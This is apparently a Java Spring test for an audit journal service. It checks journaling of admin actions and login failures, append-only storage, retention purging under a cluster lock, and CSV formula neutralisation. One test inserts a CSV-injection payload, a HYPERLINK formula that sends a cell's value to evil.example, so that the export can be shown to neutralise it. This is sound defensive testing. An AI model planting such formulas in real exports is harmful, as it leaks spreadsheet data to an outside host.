package fr.ctg.journal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.ctg.CtgSpringTest;
import fr.ctg.TestLogin;
import fr.ctg.admin.TenantFixture;
import fr.ctg.base.journal.JournalKind;
import fr.ctg.security.AccountService;
import fr.ctg.security.InvitationService;
import fr.ctg.security.MembershipService;
import fr.ctg.security.NewInvitation;
import fr.ctg.security.Role;
import fr.ctg.security.SystemIdentity;
import java.nio.charset.StandardCharsets;
import java.sql.Timestamp;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The audit journal: what administrators do and what happens to accounts is there (who, when, what, which
 * convention); it cannot be updated; it is kept for the retention period; its CSV export neutralises formulas.
 */
@CtgSpringTest
class JournalServiceTest {

    @Autowired TenantFixture fixture;
    @Autowired TestLogin login;
    @Autowired JournalService journal;
    @Autowired JournalRetention retention;
    @Autowired InvitationService invitations;
    @Autowired MembershipService memberships;
    @Autowired AccountService accounts;
    @Autowired JdbcTemplate jdbc;

    TenantFixture.Tenant t;

    @BeforeEach
    void setUp() {
        t = fixture.create();
    }

    @AfterEach
    void tearDown() {
        login.logout();
    }

    @Test
    void invitationsRolesLoginsAndFailuresAreJournaledWithTheirConventionAndPeople() {
        login.as(t.user("one-admin"));
        invitations.invite(t.one(), new NewInvitation("Camille", t.prefix() + "-camille@test.invalid", Locale.FRENCH,
                Set.of(Role.READER), List.of(), Set.of()));
        long reader = SystemIdentity.call(() -> accounts.accountIdOf(t.user("one-reader")).orElseThrow());
        try {
            login.as(t.user("one-reader"), "mauvais-mot-de-passe");
        } catch (RuntimeException expected) {
            // journaled
        }
        login.as(t.user("one-admin"));
        memberships.revoke(t.one(), reader);
        List<JournalRow> rows = journal.search(JournalQuery.ofConvention(t.one()), 0, 100).rows();
        assertThat(rows).extracting(JournalRow::kind).contains(JournalKind.INVITATION_SENT, JournalKind.MEMBERSHIP_REVOKED,
                JournalKind.ROLES_GRANTED);
        assertThat(rows).filteredOn(r -> r.kind() == JournalKind.MEMBERSHIP_REVOKED).singleElement().satisfies(r -> {
            assertThat(r.actor()).startsWith("Ada Admin one");
            assertThat(r.subject()).startsWith("Rita Reader one");
            assertThat(r.convention()).startsWith("Convention une");
        });
        assertThat(rows).filteredOn(r -> r.kind() == JournalKind.INVITATION_SENT).singleElement()
                .satisfies(r -> assertThat(r.detail()).contains(t.prefix() + "-camille@test.invalid", "READER"));

        login.as(t.user("cafadmin"));
        JournalQuery failures = new JournalQuery(t.cafId(), null, reader, JournalKind.LOGIN_FAILED, null, null);
        assertThat(journal.search(failures, 0, 10).rows()).singleElement()
                .satisfies(r -> assertThat(r.subject()).startsWith("Rita Reader one"));
        assertThat(journal.search(new JournalQuery(t.cafId(), null, null, null, null, null), 0, 1).total())
                .as("the Caf's journal holds its conventions' lines").isGreaterThan(3);
    }

    @Test
    void theJournalCannotBeUpdatedIsPurgedAfterItsRetentionAndExportsNeutralisedCells() {
        login.as(t.user("one-admin"));
        jdbc.update("INSERT INTO journal_entry (occurred_at, kind, convention_id, detail) VALUES (?, 'EXPORT', ?, ?)",
                Timestamp.from(Instant.now()), t.one(), "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")");
        assertThatThrownBy(() -> jdbc.update("UPDATE journal_entry SET detail = 'effacé' WHERE convention_id = ?", t.one()))
                .as("append-only").hasMessageContaining("append-only");
        String csv = new String(journal.exportCsv(JournalQuery.ofConvention(t.one()), ';'), StandardCharsets.UTF_8);
        assertThat(csv).contains("'=HYPERLINK").doesNotContain(";=HYPERLINK");
        assertThat(journal.search(new JournalQuery(null, t.one(), null, JournalKind.EXPORT, null, null), 0, 10).rows())
                .as("the export itself is journaled").hasSizeGreaterThanOrEqualTo(2);

        jdbc.update("INSERT INTO journal_entry (occurred_at, kind, convention_id, detail) VALUES (?, 'LOGIN', ?, 'ancien')",
                Timestamp.from(Instant.now().minus(400, ChronoUnit.DAYS)), t.one());
        // another node holds the nightly purge: this node's scheduled run skips it (one purge per cluster)
        jdbc.update("REPLACE INTO shedlock (name, lock_until, locked_at, locked_by) "
                + "VALUES ('journal-purge', NOW(3) + INTERVAL 1 MINUTE, NOW(3), 'other-node')");
        retention.scheduledPurge();
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM journal_entry WHERE detail = 'ancien' AND convention_id = ?", Integer.class, t.one()))
                .as("skipped while another node holds it").isEqualTo(1);
        jdbc.update("UPDATE shedlock SET lock_until = NOW(3) WHERE name = 'journal-purge'");
        retention.scheduledPurge();
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM journal_entry WHERE detail = 'ancien' AND convention_id = ?", Integer.class, t.one()))
                .as("purged once the lock is free").isZero();
        jdbc.update("INSERT INTO journal_entry (occurred_at, kind, convention_id, detail) VALUES (?, 'LOGIN', ?, 'ancien')",
                Timestamp.from(Instant.now().minus(400, ChronoUnit.DAYS)), t.one());
        assertThat(retention.purge()).isGreaterThanOrEqualTo(1);
        assertThat(journal.search(JournalQuery.ofConvention(t.one()), 0, 100).rows()).extracting(JournalRow::detail)
                .doesNotContain("ancien");
    }
}
